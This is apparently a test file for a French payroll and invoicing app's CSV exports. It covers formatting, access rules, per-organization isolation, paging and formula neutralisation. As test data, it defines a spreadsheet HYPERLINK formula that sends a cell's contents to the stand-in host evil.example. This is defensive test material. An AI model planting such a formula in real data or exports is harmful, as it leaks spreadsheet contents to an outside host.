/**
 * The CSV exports: what a French spreadsheet opens as it is (BOM, `;`, CRLF, `1234,50`,
 * JJ/MM/AAAA), formulas neutralised in text cells only, the money set's gate, and never another
 * organization's row.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { build } from '../helper.ts';
import { moneyOrganizations } from '../support/money-fixtures.ts';
import type { Person } from '../support/fixtures.ts';
import { csvAmount, csvDate, csvText } from '../../src/format/csv.ts';
import { readCsv } from '../support/csv.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")';

/** The rows' cells, after checking the BOM and CRLF ends. */
function parseCsv(raw: Buffer): string[][] {
  assert.deepEqual([...raw.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with a BOM');
  const text = raw.subarray(3).toString('utf8');
  assert.ok(text.endsWith('\r\n'), 'CRLF line ends');
  return readCsv(text, ';', { crlfOnly: true });
}

/** The rows as objects keyed by the header's French names. */
function records(raw: Buffer): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(raw);
  return rows.map((r) => {
    assert.equal(r.length, header!.length);
    return Object.fromEntries(header!.map((h, i) => [h, r[i]!]));
  });
}

async function setup(t: Parameters<typeof build>[0]) {
  const { app, database } = await build(t);
  const db = database.db;
  const money = await moneyOrganizations(app, db);
  // Names someone typed that a spreadsheet would run: written to the table (the API's text rule
  // is not what this test is about).
  await db.updateTable('employees').set({ last_name: FORMULA }).where('id', '=', money.employees.paul).execute();
  await db.updateTable('organizations').set({ name: '@SOMME(A1:A9)' }).where('id', '=', money.lumiere).execute();
  const credit = await money.call(money.staff, 'POST', `/api/staff/facturation/${money.invoices.march.id}/avoir`, {
    reason: '-10 % : geste commercial',
    lines: [{ label: 'Remise', quantity: '1', unit_price: '100', vat_rate: '20' }],
  });
  const get = (who: Person, url: string) => app.inject({ method: 'GET', url, headers: { cookie: who.cookie } });
  return { app, db, get, credit: credit as { id: string; number: string }, ...money };
}

describe('format/csv.ts', () => {
  it('should neutralise text that starts a formula, and write amounts and dates the French way', () => {
    assert.equal(csvText('=1+1'), "'=1+1");
    assert.equal(csvText('+33 6'), "'+33 6");
    assert.equal(csvText('-x'), "'-x");
    assert.equal(csvText('@A1'), "'@A1");
    assert.equal(csvText('\tx'), "'\tx");
    assert.equal(csvText('\rx'), "'\rx");
    assert.equal(csvText('Théâtre = scène'), 'Théâtre = scène');
    assert.equal(csvText(null), '');
    assert.equal(csvAmount('1234.50'), '1234,50');
    assert.equal(csvAmount('-120.00'), '-120,00');
    assert.equal(csvAmount('1000000.00'), '1000000,00', 'no thousands separator');
    assert.throws(() => csvAmount('=1+1'), /not an amount/);
    assert.throws(() => csvAmount('12.5'), /not an amount/);
    assert.equal(csvDate('2026-03-31'), '31/03/2026');
    assert.equal(csvDate(new Date('2026-03-31T22:30:00Z')), '01/04/2026', "a time stamp's day in France");
  });
});

describe('GET /api/factures.csv', () => {
  it("should stream the organization's invoices and credit notes: BOM, ';', CRLF, French header, 1234,50, JJ/MM/AAAA", async (t) => {
    const { get, compta, invoices, credit } = await setup(t);
    const res = await get(compta, '/api/factures.csv');
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(res.headers['content-disposition'], 'attachment; filename="factures.csv"');
    assert.equal(res.headers['cache-control'], 'private, no-store');
    const raw = res.rawPayload;
    assert.ok(
      raw
        .subarray(3)
        .toString('utf8')
        .startsWith(
          "Numéro;Document;Facture créditée;Organisation;Type;Période;Date d'émission;Échéance;Règlement;Total HT;TVA;Total TTC;Motif de l'avoir;Notifiée\r\n",
        ),
    );
    const rows = records(raw);
    assert.deepEqual(
      rows.map((r) => r.Numéro),
      [invoices.opening.number, invoices.march.number, credit.number],
      'newest number first',
    );
    const march = rows.find((r) => r.Numéro === invoices.march.number)!;
    assert.deepEqual(march, {
      Numéro: invoices.march.number,
      Document: 'Facture',
      'Facture créditée': '',
      Organisation: 'Théâtre du Soleil',
      Type: 'Paie mensuelle',
      Période: 'Mars 2026',
      "Date d'émission": '31/03/2026',
      Échéance: '15/04/2026',
      Règlement: 'Prélèvement SEPA',
      'Total HT': '1026,00',
      TVA: '205,20',
      'Total TTC': '1231,20',
      "Motif de l'avoir": '',
      Notifiée: 'Non',
    });
    const note = rows.find((r) => r.Numéro === credit.number)!;
    assert.equal(note.Document, 'Avoir');
    assert.equal(note['Facture créditée'], invoices.march.number);
    assert.equal(note['Total HT'], '-100,00', "a credit note's amounts are negative numbers, not neutralised");
    assert.equal(note['Total TTC'], '-120,00');
    assert.equal(note["Motif de l'avoir"], "'-10 % : geste commercial", 'a text cell starting with - is neutralised');
    // Another organization's invoice is never there.
    assert.ok(!rows.some((r) => r.Numéro === invoices.lumiere.number));
    assert.ok(!raw.toString('utf8').includes('9999'));
  });

  it('should take the list filters and the month, and refuse a bad one in JSON before any byte of a file', async (t) => {
    const { get, admin, invoices, credit } = await setup(t);
    const march = await get(admin, '/api/factures.csv?period=2026-03&kind=facture');
    assert.equal(march.headers['content-disposition'], 'attachment; filename="factures-2026-03.csv"');
    assert.deepEqual(
      records(march.rawPayload).map((r) => r.Numéro),
      [invoices.march.number],
    );
    const notes = await get(admin, '/api/factures.csv?kind=avoir');
    assert.deepEqual(
      records(notes.rawPayload).map((r) => r.Numéro),
      [credit.number],
    );
    const bad = await get(admin, '/api/factures.csv?period=2026-13');
    assert.equal(bad.statusCode, 400);
    assert.equal(bad.json().error, 'invalid_period');
  });

  it('should refuse an AGENT every money export (403 Forbidden), and answer the money set', async (t) => {
    const { get, agent, compta, admin } = await setup(t);
    for (const url of ['/api/factures.csv', '/api/cotisations.csv', '/api/virements.csv', '/api/payslips.csv?period=2027-03']) {
      const refused = await get(agent, url);
      assert.equal(refused.statusCode, 403, url);
      assert.equal(refused.body, 'Forbidden', url);
      assert.equal((await get(compta, url)).statusCode, 200, url);
      assert.equal((await get(admin, url)).statusCode, 200, url);
    }
    for (const url of ['/api/staff/facturation.csv', '/api/staff/cotisations.csv', '/api/staff/virements.csv', '/api/staff/payslips.csv?period=2027-03']) {
      assert.equal((await get(compta, url)).statusCode, 403, url);
    }
  });
});

describe('GET /api/payslips.csv', () => {
  it("should list the month's payslips with their amounts, a formula in a name neutralised, never another organization's", async (t) => {
    const { get, compta, lumiereCompta } = await setup(t);
    const res = await get(compta, '/api/payslips.csv?period=2027-03');
    assert.equal(res.headers['content-disposition'], 'attachment; filename="bulletins-2027-03.csv"');
    const rows = records(res.rawPayload);
    assert.deepEqual(new Set(rows.map((r) => r.Prénom)), new Set(['Hélène', 'Paul']));
    const paul = rows.find((r) => r.Prénom === 'Paul')!;
    assert.equal(paul.Nom, `'${FORMULA}`, 'the formula is text');
    // A year then a month: a French spreadsheet keeps it as text, where 03/2027 became a date.
    assert.equal(paul.Période, '2027-03');
    assert.equal(paul.Brut, '1234,50');
    assert.equal(paul['Net à payer'], '987,65');
    assert.equal(paul['Cotisations salariales'], '', 'a payslip typed in has no computed figures');
    assert.equal(paul.Statut, 'Publié');
    assert.equal(paul.Virement, 'Généré');
    assert.equal(rows.find((r) => r.Prénom === 'Hélène')!['Net à payer'], '2345,67');
    assert.ok(!rows.some((r) => r.Prénom === 'Léonie'));
    // The other organization's accountant sees hers only.
    const theirs = records((await get(lumiereCompta, '/api/payslips.csv')).rawPayload);
    assert.deepEqual(
      theirs.map((r) => `${r.Prénom} ${r.Brut}`),
      ['Léonie 9000,00'],
    );
  });
});

describe('GET /api/cotisations.csv and /api/virements.csv', () => {
  it("should give a column per organism and the organization's batches, never an IBAN", async (t) => {
    const { get, compta, executionDate } = await setup(t);
    const calls = records((await get(compta, '/api/cotisations.csv?period=2027-03')).rawPayload);
    assert.match(calls[0]!.Référence!, /^AC-\d{4}-\d{6}$/);
    assert.deepEqual(
      calls.map(({ Référence: _number, ...rest }) => rest),
      [
        {
          Nature: 'Saisi par l\u2019équipe paie',
          Période: '2027-03',
          Échéance: '15/04/2027',
          Urssaf: '1234,50',
          Audiens: '456,78',
          'Congés Spectacles': '300,00',
          'France Travail': '',
          Afdas: '',
          'Autres organismes': '',
          Total: '1991,28',
          Statut: 'À payer',
        },
      ],
    );
    const transfers = await get(compta, '/api/virements.csv');
    assert.equal(transfers.headers['content-disposition'], 'attachment; filename="virements.csv"');
    const [d, m, y] = [executionDate.slice(8, 10), executionDate.slice(5, 7), executionDate.slice(0, 4)];
    // The batch's reference and the months it pays: what a bank statement is matched on.
    const [batch] = records(transfers.rawPayload);
    assert.match(batch!.Référence!, /^VIR-\d{4}-\d{6}$/);
    assert.deepEqual(batch, {
      Référence: batch!.Référence,
      "Date d'exécution": `${d}/${m}/${y}`,
      Période: '2027-02, 2027-03',
      Bulletins: '2',
      Total: '3288,75',
      Statut: 'Généré',
    });
    assert.ok(!transfers.rawPayload.toString('utf8').includes('FR76'));
  });
});

describe('staff exports', () => {
  it("should export every organization's rows, a neutralised organization name, filters of the list, and a month's payslips in pages", async (t) => {
    const { get, staff, lumiere, soleil, invoices, credit } = await setup(t);
    const all = records((await get(staff, '/api/staff/facturation.csv')).rawPayload);
    assert.deepEqual(all.map((r) => r.Numéro).sort(), [credit.number, invoices.march.number, invoices.lumiere.number, invoices.opening.number].sort());
    assert.equal(all.find((r) => r.Numéro === invoices.lumiere.number)!.Organisation, "'@SOMME(A1:A9)");
    assert.equal(all.find((r) => r.Numéro === invoices.lumiere.number)!['Total TTC'], '11999,99');
    const one = records((await get(staff, `/api/staff/facturation.csv?org_id=${lumiere}`)).rawPayload);
    assert.deepEqual(
      one.map((r) => r.Numéro),
      [invoices.lumiere.number],
    );

    const calls = records((await get(staff, `/api/staff/cotisations.csv?org_id=${lumiere}&status=a_payer`)).rawPayload);
    assert.deepEqual(
      calls.map((r) => [r.Organisation, r.Afdas, r.Total]),
      [["'@SOMME(A1:A9)", '7777,77', '7777,77']],
    );

    const batches = records((await get(staff, `/api/staff/virements.csv?org_id=${soleil}`)).rawPayload);
    assert.equal(batches.length, 1);
    assert.match(batches[0]!.Référence!, /^VIR-\d{4}-\d{6}$/);
    assert.equal(batches[0]!.Période, '2027-02, 2027-03');
    assert.equal(batches[0]!.Total, '3288,75');

    const payslips = await get(staff, '/api/staff/payslips.csv?period=2027-03');
    assert.equal(payslips.headers['content-disposition'], 'attachment; filename="bulletins-2027-03.csv"');
    const rows = records(payslips.rawPayload);
    assert.deepEqual(rows.map((r) => `${r.Organisation} · ${r.Prénom} · ${r['Net à payer']}`).sort(), [
      "'@SOMME(A1:A9) · Léonie · 8888,88",
      'Théâtre du Soleil · Hélène · 2345,67',
      'Théâtre du Soleil · Paul · 987,65',
    ]);
    const missing = await get(staff, '/api/staff/payslips.csv');
    assert.equal(missing.statusCode, 400);
    assert.equal(missing.json().error, 'missing_period');
    assert.equal((await get(staff, '/api/staff/payslips.csv?period=2027-03&org_id=nope')).statusCode, 400);
  });

  it('should read every keyset page (more rows than a page of 200)', async (t) => {
    const { get, staff, db, soleil } = await setup(t);
    // 450 payslips of one month, written in one statement (the export pages by 200).
    const employees = await db
      .insertInto('employees')
      .values(Array.from({ length: 450 }, (_, i) => ({ org_id: soleil, first_name: 'Test', last_name: `Nom${String(i).padStart(3, '0')}` })))
      .returning('id')
      .execute();
    await db
      .insertInto('payslips')
      .values(employees.map((e) => ({ org_id: soleil, employee_id: e.id, period: '2027-05', gross: '100.00', net_to_pay: '80.00', status: 'publie' as const })))
      .execute();
    const rows = records((await get(staff, `/api/staff/payslips.csv?period=2027-05&org_id=${soleil}`)).rawPayload);
    assert.equal(rows.length, 450);
    assert.equal(new Set(rows.map((r) => r.Nom)).size, 450, 'no row twice');
    assert.equal(rows[0]!.Nom, 'Nom000');
    assert.equal(rows.at(-1)!.Nom, 'Nom449');
  });
});

describe('"Exporter (CSV)" on the pages', () => {
  it("should link each list to its export with the page's current filters, and offer the payslips' to the money set only", async (t) => {
    const { get, compta, agent, staff, soleil } = await setup(t);
    const href = (body: string, id: string) =>
      new RegExp(`<a class="button button-small button-secondary" id="${id}" href="([^"]*)" download>Exporter \\(CSV\\)`).exec(body)?.[1];
    const factures = (await get(compta, '/factures')).body;
    assert.equal(href(factures, 'invoices-csv'), '/api/factures.csv');
    assert.equal(href(factures, 'calls-csv'), '/api/cotisations.csv');
    assert.equal(href(factures, 'transfers-csv'), '/api/virements.csv');
    assert.equal(href((await get(compta, '/paie?period=03%2F2027')).body, 'payslips-csv'), '/api/payslips.csv?period=2027-03');
    assert.equal(
      href((await get(agent, '/paie?period=03%2F2027')).body, 'payslips-csv'),
      undefined,
      "an AGENT reads the payslips, the export is the money set's",
    );

    assert.equal(
      href((await get(staff, `/staff/facturation?org_id=${soleil}&invoice_type=paie_mensuelle&notified=false`)).body, 'invoices-csv'),
      `/api/staff/facturation.csv?notified=false&amp;org_id=${soleil}&amp;invoice_type=paie_mensuelle`,
    );
    assert.equal(
      href((await get(staff, '/staff/cotisations?period=03%2F2027&status=a_payer')).body, 'calls-csv'),
      '/api/staff/cotisations.csv?period=2027-03&amp;status=a_payer',
    );
    assert.equal(href((await get(staff, '/staff/virements')).body, 'batches-csv'), '/api/staff/virements.csv');
    assert.equal(
      href((await get(staff, `/staff/paie?org_id=${soleil}&period=03%2F2027`)).body, 'payslips-csv'),
      `/api/staff/payslips.csv?period=2027-03&amp;org_id=${soleil}`,
    );
  });
});
